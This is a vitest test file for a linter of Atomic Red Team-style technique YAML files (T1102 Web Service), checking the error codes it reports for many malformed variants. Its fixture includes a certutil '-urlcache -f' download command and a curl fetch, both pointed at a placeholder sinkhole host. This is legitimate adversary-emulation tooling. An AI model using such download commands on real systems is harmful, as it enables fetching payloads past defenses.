import { expect, test } from "vitest";
import { file, problemsOf, techniqueOf, unmark, valid } from "./atomics.ts";

test("a technique as data", () => {
  const { source, ...technique } = techniqueOf(valid);
  expect(source.text).toBe(valid);
  expect(technique.id).toBe("T1102");
  expect(technique.displayName).toBe("Web Service");
  const [fetch, follow, certutil] = technique.tests;
  expect(fetch).toMatchObject({
    technique: "T1102",
    number: 1,
    guid: "2f1d1a52-5a39-4a0b-8d2b-6f4b1c0f1a01",
    platforms: ["linux", "macos"],
    dependencyExecutor: "sh",
    executor: { kind: "command", shell: "bash", elevated: false },
  });
  expect(fetch?.arguments.map(({ name, type, default: value }) => [name, type, value])).toEqual([
    ["service_url", "url", "https://sinkhole.example"],
    ["marker", "string", "run-1"],
    ["tries", "integer", "3"],
    ["pause", "float", "0.5"],
    ["out-file", "path", "/tmp/paste"],
  ]);
  expect(fetch?.executor.cleanup?.text).toBe('rm -f "#{out-file}"\n');
  expect(fetch?.dependencies[0]?.check.text).toBe("command -v curl\n");
  expect(follow).toMatchObject({
    guid: "9b0e2c41-3c55-4f0b-9c1c-1f7a4f6d2b02",
    arguments: [],
    dependencyExecutor: "manual",
    executor: { kind: "manual" },
  });
  expect(certutil).toMatchObject({
    number: 3,
    dependencies: [],
    executor: { shell: "command_prompt", elevated: true },
  });
  expect(certutil?.executor).not.toHaveProperty("cleanup");
});

test("spans lead to the places in the file", () => {
  const technique = techniqueOf(valid);
  const at = (span: { start: number; end: number } | undefined): string =>
    valid.slice(span?.start, span?.end);
  expect(at(technique.tests[1]?.span)).toBe("9B0E2C41-3C55-4F0B-9C1C-1F7A4F6D2B02");
  expect(at(technique.tests[0]?.arguments[1]?.span)).toBe("marker");
});

test("it survives a structured clone", () => {
  const technique = techniqueOf(valid);
  expect(structuredClone(technique)).toEqual(technique);
});

const guid = "2f1d1a52-5a39-4a0b-8d2b-6f4b1c0f1a01";

/** What is changed in the valid file (`»` marks the place that must be told of), the code, and a part of the message. */
// oxfmt-ignore
const mutations: readonly (readonly [what: string, from: string, to: string, code: string, message: string])[] = [
  // The technique.
  ["no YAML", "display_name: Web Service\natomic_tests", "display_name: [Web Service\n»atomic_tests", "KT0801", "not valid YAML"],
  ["a key twice", "display_name: Web Service", "display_name: Web Service\n»display_name: Web Service", "KT0801", "the key `display_name` stands here twice"],
  ["an unknown key", "display_name: Web Service", "»display-name: Web Service\ndisplay_name: Web Service", "KT0802", "unknown key `display-name`"],
  ["no technique", "attack_technique: T1102\n", "»", "KT0802", "the file lacks the key `attack_technique`"],
  ["a technique that is none", "attack_technique: T1102", "attack_technique: »T110", "KT0802", "`attack_technique` must be"],
  ["a sub-technique of two digits", "attack_technique: T1102", "attack_technique: »T1102.01", "KT0802", "`attack_technique` must be"],
  ["a technique in lower case", "attack_technique: T1102", "attack_technique: »t1102", "KT0802", "`attack_technique` must be"],
  ["a technique with more behind it", "attack_technique: T1102", "attack_technique: »T1102 Web Service", "KT0802", "`attack_technique` must be"],
  ["a technique that is a number", "attack_technique: T1102", "attack_technique: »1102", "KT0802", "`attack_technique` must be a string"],
  ["another technique than the file's", "attack_technique: T1102", "attack_technique: »T1105", "KT0803", "the technique is `T1105`, but the file is `T1102.yaml` and its folder is `T1102`"],
  ["no display name", "display_name: Web Service\n", "", "KT0802", "the file lacks the key `display_name`"],
  ["a short display name", "display_name: Web Service", "display_name: »Web", "KT0802", "`display_name` must not have fewer than 5 characters"],
  ["a display name that is a list", "display_name: Web Service", "display_name: »[Web, Service]", "KT0802", "`display_name` must be a string, found a list"],
  ["a test that is a text", "- name: Follow a link", "- »just this\n- name: Follow a link", "KT0802", "`atomic_tests.1` must be a map, found a string"],
  // A test.
  ["an unknown key of a test", "  supported_platforms:\n  - linux", "  »platforms: [linux]\n  supported_platforms:\n  - linux", "KT0802", "unknown key `platforms`"],
  ["the number of a test", "  description: A person does it.", "  description: A person does it.\n  »test_number: '2'", "KT0802", "unknown key `test_number`"],
  ["no name", "- name: Follow a link\n  auto", "- »auto", "KT0802", "`atomic_tests.1` lacks the key `name`"],
  ["an empty name", "name: Follow a link", "name: »''", "KT0802", "`atomic_tests.1.name` is empty"],
  ["no description", "- name: Follow a link", "- »name: Follow a link", "KT0802", "`atomic_tests.1` lacks the key `description`"],
  ["an empty description", "description: A person does it.", "description: »\"\"", "KT0802", "`atomic_tests.1.description` is empty"],
  ["a description without a value", "description: A person does it.", "»description:", "KT0802", "`atomic_tests.1.description` must be a string, found nothing"],
  ["no GUID", "- name: Follow a link", "- »name: Follow a link", "KT0802", "lacks the key `auto_generated_guid`"],
  ["a GUID without a value", `auto_generated_guid: ${guid}`, "»auto_generated_guid:", "KT0802", "must be a string, found nothing"],
  ["a GUID of other characters", guid, "»2f1d1a52-5a39-4a0b-8d2b-6f4b1c0f1aZZ", "KT0802", "`atomic_tests.0.auto_generated_guid` must be"],
  ["a GUID that is too short", guid, "»2f1d1a52-5a39-4a0b-8d2b-6f4b1c0f1a", "KT0802", "`atomic_tests.0.auto_generated_guid` must be"],
  ["a GUID in braces", guid, `»"{${guid}}"`, "KT0802", "`atomic_tests.0.auto_generated_guid` must be"],
  ["a GUID twice", "9B0E2C41-3C55-4F0B-9C1C-1F7A4F6D2B02", `»${guid}`, "KT0804", "the GUID is that of `Fetch a paste` too, at atomics/T1102/T1102.yaml:5"],
  ["a GUID twice, in another case", "9B0E2C41-3C55-4F0B-9C1C-1F7A4F6D2B02", `»${guid.toUpperCase()}`, "KT0804", "the GUID is that of `Fetch a paste` too"],
  ["no platforms", "  supported_platforms:\n  - windows\n  - office-365\n", "", "KT0802", "`atomic_tests.1` lacks the key `supported_platforms`"],
  ["an empty list of platforms", "supported_platforms:\n  - windows\n  - office-365", "supported_platforms: »[]", "KT0802", "`atomic_tests.1.supported_platforms` is empty"],
  ["an unknown platform", "  - macos", "  - »mac", "KT0802", "`atomic_tests.0.supported_platforms.1` is `mac`, which is none of"],
  ["a platform in upper case", "  - macos", "  - »macOS", "KT0802", "`atomic_tests.0.supported_platforms.1` is `macOS`, which is none of"],
  ["a platform that is no list", "supported_platforms:\n  - windows\n  - office-365", "supported_platforms: »windows", "KT0802", "`atomic_tests.1.supported_platforms` must be a list"],
  // The executor.
  ["no executor", "  executor:\n    name: manual\n    steps: |\n      1. Open the link in the mail.\n", "", "KT0802", "`atomic_tests.1` lacks the key `executor`"],
  ["an executor without a name", "    name: manual\n    steps", "    »steps", "KT0802", "`atomic_tests.1.executor` lacks the key `name`"],
  ["an unknown executor", "name: bash", "name: »zsh", "KT0802", "`atomic_tests.0.executor.name` is `zsh`, which is none of"],
  ["an executor by its program", "name: command_prompt", "name: »cmd", "KT0802", "`atomic_tests.2.executor.name` is `cmd`, which is none of"],
  ["an unknown key of an executor", "    name: bash\n", "    name: bash\n    »timeout: 5\n", "KT0802", "unknown key `timeout`"],
  ["steps for a shell", "    name: bash\n", "    name: bash\n    »steps: Open the link, then wait.\n", "KT0802", "unknown key `steps`"],
  ["a command for a person", "    name: manual\n", "    name: manual\n    »command: whoami\n", "KT0802", "unknown key `command`"],
  ["no command", "    name: command_prompt\n    elevation_required: true\n    command: certutil.exe -urlcache -f http://sinkhole.example/x x\n", "    »name: command_prompt\n    elevation_required: true\n", "KT0802", "`atomic_tests.2.executor` lacks the key `command`"],
  ["an empty command", "command: certutil.exe -urlcache -f http://sinkhole.example/x x", "command: »''", "KT0802", "`atomic_tests.2.executor.command` is empty"],
  ["a command that is a list", "command: certutil.exe -urlcache -f http://sinkhole.example/x x", "command:\n    »- certutil.exe", "KT0802", "`atomic_tests.2.executor.command` must be a string, found a list"],
  ["no steps", "    name: manual\n    steps: |\n      1. Open the link in the mail.\n", "    »name: manual\n", "KT0802", "`atomic_tests.1.executor` lacks the key `steps`"],
  ["short steps", "steps: |\n      1. Open the link in the mail.", "steps: »Click", "KT0802", "`atomic_tests.1.executor.steps` must not have fewer than 10 characters"],
  ["elevation as a text", "elevation_required: true", "elevation_required: »\"true\"", "KT0802", "must be `true` or `false`, found a string"],
  ["elevation as a word of YAML 1.1", "elevation_required: true", "elevation_required: »yes", "KT0802", "must be `true` or `false`, found a string"],
  ["elevation as a number", "elevation_required: true", "elevation_required: »1", "KT0802", "must be `true` or `false`, found the number `1`"],
  ["a cleanup that is a list", "cleanup_command: |\n      rm -f \"#{out-file}\"", "cleanup_command:\n    »- rm", "KT0802", "must be a string or nothing, found a list"],
  ["sudo without elevation", "sleep #{pause}", "»sudo sleep #{pause}", "KT0808", "`command` uses `sudo`"],
  ["sudo in a cleanup without elevation", "rm -f \"#{out-file}\"", "»sudo rm -f \"#{out-file}\"", "KT0808", "`cleanup_command` uses `sudo`"],
  ["sudo with elevation refused", "    name: bash\n    command: |\n", "    name: bash\n    elevation_required: »false\n    command: |\n      sudo true\n", "KT0808", "`command` uses `sudo`"],
  ["a command prompt on Linux", "name: bash", "name: »command_prompt", "KT0809", "there is no `command_prompt` on `linux`, `macos`"],
  ["bash on Windows", "name: command_prompt", "name: »bash", "KT0809", "there is no `bash` on `windows`"],
  ["Linux beside Windows for a command prompt", "  - windows\n  dependencies:", "  - windows\n  - »linux\n  dependencies:", "KT0809", "there is no `command_prompt` on `linux`"],
  // Input arguments.
  ["arguments without a value", "  dependencies:\n  executor:\n    name: command_prompt", "  »input_arguments:\n  executor:\n    name: command_prompt", "KT0802", "`atomic_tests.2.input_arguments` must be a map, found nothing"],
  ["no arguments in their map", "  dependencies:\n  executor:\n    name: command_prompt", "  input_arguments: »{}\n  executor:\n    name: command_prompt", "KT0802", "`atomic_tests.2.input_arguments` is empty"],
  ["arguments that are a list", "  dependencies:\n  executor:\n    name: command_prompt", "  input_arguments:\n  »- marker\n  executor:\n    name: command_prompt", "KT0802", "`atomic_tests.2.input_arguments` must be a map, found a list"],
  ["an argument's name with a blank", "    out-file:", "    »out file:", "KT0802", "`out file` cannot be a key here"],
  ["an argument's name of one letter", "    out-file:", "    »o:", "KT0802", "`o` cannot be a key here"],
  ["an argument without a description", "      description: names the run\n      type: String", "      »type: String", "KT0802", "`atomic_tests.0.input_arguments.marker` lacks the key `description`"],
  ["an argument without a type", "      description: names the run\n      type: String", "      »description: names the run", "KT0802", "`atomic_tests.0.input_arguments.marker` lacks the key `type`"],
  ["an argument without a default", "      description: how often\n      type: integer\n      default: 3", "      »description: how often\n      type: integer", "KT0802", "`atomic_tests.0.input_arguments.tries` lacks the key `default`"],
  ["an unknown type", "type: String", "type: »text", "KT0802", "`atomic_tests.0.input_arguments.marker.type` must be"],
  ["an unknown key of an argument", "      type: String\n", "      type: String\n      »required: true\n", "KT0802", "unknown key `required`"],
  ["a default that is a list", "default: run-1", "default: »[run-1]", "KT0802", "`atomic_tests.0.input_arguments.marker.default` must be a string or a number or nothing"],
  ["a default that is a truth value", "default: run-1", "default: »true", "KT0802", "must be a string or a number or nothing, found `true`"],
  ["a text for an integer", "default: 3", "default: »often", "KT0807", "the default of `tries` is no integer: `often`"],
  ["a fraction for an integer", "default: 3", "default: »3.5", "KT0807", "the default of `tries` is no integer: `3.5`"],
  ["a text for a float", "default: 0.5", "default: »a while", "KT0807", "the default of `pause` is no float: `a while`"],
  ["a quoted number for a float", "default: 0.5", "default: »'0.5'", "KT0807", "the default of `pause` is no float: `0.5`"],
  ["a number for a string", "default: run-1", "default: »1", "KT0807", "the default of `marker` is no string: `1`"],
  ["a number for a path", "default: /tmp/paste", "default: »7", "KT0807", "the default of `out-file` is no path: `7`"],
  ["a text for a URL", "default: https://sinkhole.example", "default: »somewhere else", "KT0807", "the default of `service_url` is no url: `somewhere else`"],
  ["a number for a URL", "default: https://sinkhole.example", "default: »8080", "KT0807", "the default of `service_url` is no url: `8080`"],
  ["an argument that nothing uses", "    marker:\n", "    »unused:\n      description: is not used\n      type: string\n      default: x\n    marker:\n", "KT0806", "no command uses the input argument `unused`"],
  ["an undeclared argument in a command", "sleep #{pause}", "sleep #{pause} »#{seconds}", "KT0805", "there is no input argument `seconds`"],
  ["an undeclared argument in a cleanup", "rm -f \"#{out-file}\"", "rm -f \"#{out-file}\" \"»#{log_file}\"", "KT0805", "there is no input argument `log_file`"],
  ["an undeclared argument in a prerequisite", "command -v curl", "command -v »#{program}", "KT0805", "there is no input argument `program`"],
  ["an undeclared argument in what provides it", "echo \"install curl", "echo \"install »#{program}", "KT0805", "there is no input argument `program`"],
  ["an undeclared argument in a dependency's description", "      curl is there", "      »#{program} is there", "KT0805", "there is no input argument `program`"],
  ["an undeclared argument in steps", "1. Open the link in the mail.", "1. Open »#{link}.", "KT0805", "there is no input argument `link`"],
  ["an argument in another case", "sleep #{pause}", "sleep #{pause} »#{Marker}", "KT0805", "there is no input argument `Marker`"],
  ["an argument with blanks", "sleep #{pause}", "sleep #{pause} »#{ marker }", "KT0805", "there is no input argument ` marker `"],
  ["an undeclared argument in a test without any", "http://sinkhole.example/x x", "http://sinkhole.example/»#{target} x", "KT0805", "there is no input argument `target`"],
  // Dependencies.
  ["an executor for no dependencies", "  dependencies:\n  executor:\n    name: command_prompt", "  »dependency_executor_name: powershell\n  executor:\n    name: command_prompt", "KT0810", "the test has no dependencies"],
  ["an executor for an empty list of dependencies", "  dependencies:\n  executor:\n    name: command_prompt", "  »dependency_executor_name: powershell\n  dependencies: []\n  executor:\n    name: command_prompt", "KT0810", "the test has no dependencies"],
  ["an empty executor for dependencies", "dependency_executor_name: sh", "dependency_executor_name: »''", "KT0802", "`atomic_tests.0.dependency_executor_name` is ``, which is none of"],
  ["an executor for dependencies without a value", "dependency_executor_name: sh", "»dependency_executor_name:", "KT0802", "`atomic_tests.0.dependency_executor_name` is `null`, which is none of"],
  ["an unknown executor for dependencies", "dependency_executor_name: sh", "dependency_executor_name: »python", "KT0802", "`atomic_tests.0.dependency_executor_name` is `python`, which is none of"],
  ["an executor for dependencies that is not there", "dependency_executor_name: sh", "dependency_executor_name: »command_prompt", "KT0809", "there is no `command_prompt` on `linux`, `macos`"],
  ["dependencies that are a map", "  dependencies:\n  - description: |\n      curl is there\n    prereq", "  dependencies:\n    »description: |\n      curl is there\n    prereq", "KT0802", "`atomic_tests.0.dependencies` must be a list or nothing, found a map"],
  ["a dependency without a description", "  - description: |\n      curl is there\n    prereq", "  - »prereq", "KT0802", "`atomic_tests.0.dependencies.0` lacks the key `description`"],
  ["a dependency without a check", "  - description: |\n      curl is there\n    prereq_command: |\n      command -v curl\n", "  - »description: |\n      curl is there\n", "KT0802", "`atomic_tests.0.dependencies.0` lacks the key `prereq_command`"],
  ["a dependency that says not how to get it", "  - description: |\n      curl is there\n", "  - »description: |\n      curl is there\n", "KT0802", "`atomic_tests.0.dependencies.0` lacks the key `get_prereq_command`"],
  ["a dependency with an empty check", "prereq_command: |\n      command -v curl", "prereq_command: »''", "KT0802", "`atomic_tests.0.dependencies.0.prereq_command` is empty"],
  ["an unknown key of a dependency", "    prereq_command: |\n      command -v curl", "    »prereq-command: x\n    prereq_command: |\n      command -v curl", "KT0802", "unknown key `prereq-command`"],
];

/** Lines that a mutation takes out besides, where the mark stands elsewhere. */
const without: Readonly<Record<string, string>> = {
  "no description": "  description: A person does it.\n",
  "no GUID": "  auto_generated_guid: 9B0E2C41-3C55-4F0B-9C1C-1F7A4F6D2B02\n",
  "a dependency that says not how to get it":
    '    get_prereq_command: |\n      echo "install curl, then try #{tries} times"\n',
};

/** Where the first key of what lacks a key stands, for mutations that take the mark's place out. */
const firstKeys: Readonly<Record<string, string>> = {
  "no display name": "attack_technique: T1102\n",
  "no platforms": "name: Follow a link",
  "no executor": "name: Follow a link",
};

test("there are at least sixty mutations, each of its own", () => {
  expect(new Set(mutations.map(([what]) => what)).size).toBe(mutations.length);
  expect(mutations.length).toBeGreaterThanOrEqual(60);
  expect(problemsOf(valid)).toEqual([]);
});

test.each(mutations)("%s", (what, from, to, code, message) => {
  const parts = valid.split(from);
  expect(parts.length, `\`${from}\` stands once in the file`).toBe(2);
  const changed = parts.join(to).replace(without[what] ?? "", "");
  const first = firstKeys[what];
  const { text, place } = unmark(
    first === undefined ? changed : changed.replace(first, `»${first}`),
  );
  const [problem, ...more] = problemsOf(text);
  expect(problem).toContain(`${place} ${code} `);
  expect(problem).toContain(message);
  expect(more).toEqual([]);
});

test.each([
  ["atomics/T1102/T1102.yml", "the file ends in `.yml`"],
  ["atomics/T1102/t1102.yaml", "the technique is `T1102`, but the file is `t1102.yaml`"],
  ["atomics/T1105/T1102.yaml", "the technique is `T1102`, but its folder is `T1105`"],
  ["atomics/T1102.001/T1102.001.yaml", "but the file is `T1102.001.yaml` and its folder is"],
])("a technique in %s is in the wrong place", (path, message) => {
  const [problem, ...more] = problemsOf(valid, path);
  expect(problem).toContain("KT0803");
  expect(problem).toContain(message);
  expect(more).toEqual([]);
});

test("a file by its name alone is in no wrong folder", () => {
  expect(problemsOf(valid, "T1102.yaml")).toEqual([]);
});

test("no tests are a mistake", () => {
  const [head = ""] = valid.split("atomic_tests:");
  expect(problemsOf(`${head}atomic_tests: []\n`)).toEqual(["3:15 KT0802 `atomic_tests` is empty"]);
  expect(problemsOf(`${head}atomic_tests:\n`)).toEqual([
    "3:1 KT0802 `atomic_tests` must be a list, found nothing",
  ]);
  expect(problemsOf(head)).toEqual(["1:1 KT0802 the file lacks the key `atomic_tests`"]);
});

test("an empty file, and one that is a list", () => {
  expect(problemsOf("")[0]).toContain("KT0801 the file is empty");
  expect(problemsOf("- x\n")).toEqual(["1:1 KT0802 the file must be a map, found a list"]);
});

// oxfmt-ignore
test.each([
  ["a URL that is a domain name", "default: https://sinkhole.example", "default: sinkhole.example"],
  ["a URL that is an address", "default: https://sinkhole.example", "default: 192.0.2.7"],
  ["a URL that is an IPv6 address", "default: https://sinkhole.example", "default: 2001:db8::7"],
  ["a default that is nothing", "default: run-1", "default:"],
  ["an integer in quotes", "default: 3", "default: '3'"],
  ["a whole number for a float", "default: 0.5", "default: 2"],
  ["a type in upper case", "type: url", "type: URL"],
  ["nothing that provides a dependency", 'get_prereq_command: |\n      echo "install curl, then try #{tries} times"', "get_prereq_command:"],
  ["sudo with elevation", "    name: bash\n    command: |\n", "    name: bash\n    elevation_required: true\n    command: |\n      sudo true\n"],
  ["PowerShell on Linux", "name: bash", "name: powershell"],
  ["a cloud platform beside Windows", "  - office-365", "  - iaas:azure"],
])("%s is right", (_, from, to) => {
  expect(valid.split(from).length).toBe(2);
  expect(problemsOf(valid.replace(from, () => to))).toEqual([]);
});

test("every mistake of a file is told at once, with what helps", () => {
  const text = valid
    .replace("sleep #{pause}", "sleep #{puase}")
    .replace("name: bash", "name: command_prompt");
  expect(problemsOf(text).map((problem) => problem.replace(/ .*/, ""))).toEqual([
    "41:11",
    "45:15",
    "24:5",
  ]);
});

test("the file is what people read", () => {
  expect(() => techniqueOf(valid.replace("sleep #{pause}", "sleep #{pause} #{tri}"))).toThrow(
    `${file}:45:24 KT0805 there is no input argument \`tri\`
  45 |         sleep #{pause} #{tri}
     |                        ^^^^^^
  hint: possible: \`service_url\`, \`marker\`, \`tries\`, \`pause\`, \`out-file\``,
  );
});
